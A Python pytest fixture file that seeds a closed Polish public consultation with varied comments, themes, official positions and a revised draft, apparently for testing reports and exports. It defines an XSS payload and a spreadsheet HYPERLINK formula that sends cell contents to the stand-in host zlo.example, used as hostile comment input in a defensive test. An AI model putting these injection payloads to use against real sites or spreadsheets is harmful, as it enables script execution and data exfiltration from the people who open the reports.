"""Report fixtures: a closed consultation with every kind of comment, positions, themes and officials."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta

import pytest

from consult.accounts.schemas import CurrentUser
from consult.accounts.services import create_user, grant_role
from consult.comments.tables import Comment
from consult.consultations.schemas import SectionInput
from consult.consultations.services import create_document, ensure_office
from consult.consultations.tables import Consultation
from consult.lib import i18n
from consult.lib.clock import now
from consult.review.tables import Campaign, CommentAnalysis, Position, Theme
from tests.factories import add_comment, draft, make_consultation, section_id

SLUG = "strategia"
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://zlo.example/?"&A1;"kliknij")'
PESEL = "44051401359"
PASSWORD = "bardzo-tajne-haslo"


def pl(message: str) -> str:
    """A message as the Polish report shows it (whatever the catalog holds at the time)."""
    token = i18n.set_locale("pl")
    try:
        return i18n.gettext(message)
    finally:
        i18n.reset_locale(token)


@dataclass(slots=True)
class Seeded:
    """What the fixture made: the consultation, its references by role, the officials."""

    consultation_id: int
    office_id: int
    refs: dict[str, str]
    head: CurrentUser
    official: CurrentUser


async def seed_closed() -> Seeded:
    """A consultation that ran 40 days and closed 5 days ago, with a corrected second draft."""
    cid = await make_consultation(SLUG, opened=timedelta(days=45), duration=timedelta(days=60))
    office = await ensure_office("Biuro Pomocy i Projektów Społecznych")
    refs = {
        "plain": await add_comment(SLUG, "3.1", "Więcej Miejsc Aktywności Lokalnej na Białołęce, proszę.",
                                   quote_text="Rozwój klubów integracji społecznej.",
                                   proposal="Dodać zapis o żłobkach.", justification="Bo brakuje miejsc."),
        "personal": await add_comment(SLUG, "3.1", f"Mój PESEL to {PESEL}, tel. 600 123 456, pisze Jan Kowalski.",
                                      email="jan@example.org"),
        "ngo": await add_comment(SLUG, "3.2", "Popieramy model mieszkanie najpierw.", submitter_kind="ngo",
                                 submitter_name="Fundacja Ławka"),
        "named": await add_comment(SLUG, "3.2", "Zgadzam się z celem.", submitter_name="Zofia Źdźbło", show_name="on",
                                   email="zofia@example.org"),
        "anonymous_name": await add_comment(SLUG, "3", "Uwaga do celu.", submitter_name="Ukryty Mieszkaniec"),
        "xss": await add_comment(SLUG, "3", XSS, proposal=FORMULA, justification="+48 to nie formuła; @SUM(1)"),
        "hidden": await add_comment(SLUG, "", "Obraźliwa treść."),
        "campaign1": await add_comment(SLUG, "3.2", "Podpisuję apel w sprawie seniorów."),
        "campaign2": await add_comment(SLUG, "3.2", "Podpisuję apel w sprawie seniorów."),
        "campaign3": await add_comment(SLUG, "3.2", "Podpisuję apel w sprawie seniorów."),
    }
    closes = now() - timedelta(days=5)
    await Consultation.update({Consultation.status: "closed", Consultation.closes_at: closes}).where(
        Consultation.id == cid)
    await Comment.update({Comment.status: "hidden", Comment.hidden_reason: "offensive"}).where(
        Comment.reference == refs["hidden"])
    ids = {k: (await Comment.select(Comment.id).where(Comment.reference == v).first())["id"] for k, v in refs.items()}
    campaign = (await Campaign.insert(Campaign(consultation=cid, key="apel-seniorzy", size=3,
                                               template="Podpisuję apel")).returning(Campaign.id))[0]["id"]
    s31 = await section_id(SLUG, "3.1")
    theme = (await Theme.insert(Theme(consultation=cid, section=s31, key="t1", label="kluby integracji",
                                      key_phrases=["kluby", "Białołęka"], summary=["Mieszkańcy chcą więcej klubów."],
                                      size=2)).returning(Theme.id))[0]["id"]
    for key, comment_id in ids.items():
        if key == "hidden":
            continue
        await CommentAnalysis.insert(CommentAnalysis(
            comment=comment_id, consultation=cid, theme=theme if key in {"plain", "personal"} else None,
            sentiment="negative" if key == "personal" else "positive",
            campaign=campaign if key.startswith("campaign") else None))
        if key not in {"anonymous_name", "campaign3"}:  # two comments are left without a position
            await Position.insert(Position(comment=comment_id, consultation=cid,
                                           value="rejected" if key == "xss" else "accepted",
                                           justification=f"Stanowisko urzędu w sprawie {key}: zapis zostanie uzupełniony."))
    # A corrected draft: 3.1 reworded, 3.2 removed, 4 added.
    sections = draft()
    sections[1].children[0].body_html = "<p>Nowe brzmienie celu 3.1.</p>"
    del sections[1].children[1]
    sections.append(SectionInput("4", "Monitoring strategii", "strategic_goal", "<p>Wskaźniki.</p>"))
    await create_document(cid, "Projekt strategii (po konsultacjach)", sections, note="poprawki")
    head_id = await create_user("kierownik@example.org", PASSWORD, "Katarzyna Kierownik")
    await grant_role(head_id, office, "office_head")
    official_id = await create_user("urzednik@example.org", PASSWORD, "Tomasz Urzędnik")
    await grant_role(official_id, office, "official")
    head = CurrentUser(id=head_id, email="kierownik@example.org", full_name="Katarzyna Kierownik", is_admin=False,
                       roles={office: "office_head"})
    official = CurrentUser(id=official_id, email="urzednik@example.org", full_name="Tomasz Urzędnik", is_admin=False,
                           roles={office: "official"})
    return Seeded(cid, office, refs, head, official)


@pytest.fixture
async def seeded(db: str) -> Seeded:
    """The closed consultation on each engine."""
    return await seed_closed()


@pytest.fixture
async def seeded_sqlite(sqlite_db: str) -> Seeded:
    """The closed consultation on SQLite (format tests)."""
    return await seed_closed()
